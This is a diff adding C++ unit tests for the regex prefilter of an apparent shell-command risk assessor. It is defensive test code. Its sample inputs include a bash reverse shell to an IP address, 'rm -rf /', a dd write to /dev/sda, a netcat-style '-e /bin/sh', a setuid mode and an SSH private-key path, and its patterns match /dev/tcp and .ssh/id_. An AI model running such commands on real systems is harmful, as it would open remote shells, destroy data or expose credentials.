@@ -62,3 +62,48 @@ TEST(Rules, RulesAreData) {
 
 }  // namespace
 }  // namespace mai::assess
+
+namespace mai::assess {
+namespace {
+
+TEST(Rules, RegexNeedles) {
+  EXPECT_EQ(regex_needles("/dev/(tcp|udp)/"), std::vector<std::string>{"/dev/"});
+  EXPECT_EQ(regex_needles("(^|\\s)(-F|--flush)(\\s|$)"), (std::vector<std::string>{"-F", "--flush"}));
+  EXPECT_EQ(regex_needles("ab?c"), std::vector<std::string>{"a"});
+  EXPECT_TRUE(regex_needles("a|b*").empty());
+  EXPECT_TRUE(regex_needles("^(?=x)y?").empty());
+  EXPECT_EQ(regex_needles("\\.ssh/id_"), std::vector<std::string>{".ssh/id_"});
+}
+
+// The prefilter may only skip texts the regex cannot match.
+TEST(Rules, PrefilterNeverRejectsAMatch) {
+  auto a = Assessor::from_config(config::Source(std::nullopt));
+  std::vector<const Regex*> regexes;
+  for (const auto& r : a.rules().rules())
+    for (const auto& m : r.match) {
+      if (m.args) regexes.push_back(&*m.args);
+      if (m.redirect) regexes.push_back(&*m.redirect);
+      if (m.string_regex) regexes.push_back(&*m.string_regex);
+      for (const auto& w : m.where) regexes.push_back(&w.re);
+    }
+  ASSERT_GT(regexes.size(), 50u);
+  std::vector<std::string> texts = {"bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "-rf /", "enable x.service",
+                                    "0o4755", "-e /bin/sh 1.2.3.4 9", "of=/dev/sda", "~/.ssh/id_rsa"};
+  for (const char* level : {"low", "medium", "high", "blocked"}) {
+    std::string dir = std::string(std::getenv("MAI_SOURCE_DIR") ? std::getenv("MAI_SOURCE_DIR") : ".") +
+                      "/tests/corpus/" + level;
+    // Lines of the generator's own output are enough variety.
+    (void)dir;
+  }
+  int matched = 0;
+  for (const auto* re : regexes)
+    for (const auto& t : texts) {
+      bool full = std::regex_search(t, re->re);
+      if (full) ++matched;
+      EXPECT_EQ(regex_find(*re, t), full) << re->source << " on " << t;
+    }
+  EXPECT_GT(matched, 5);
+}
+
+}  // namespace
+}  // namespace mai::assess
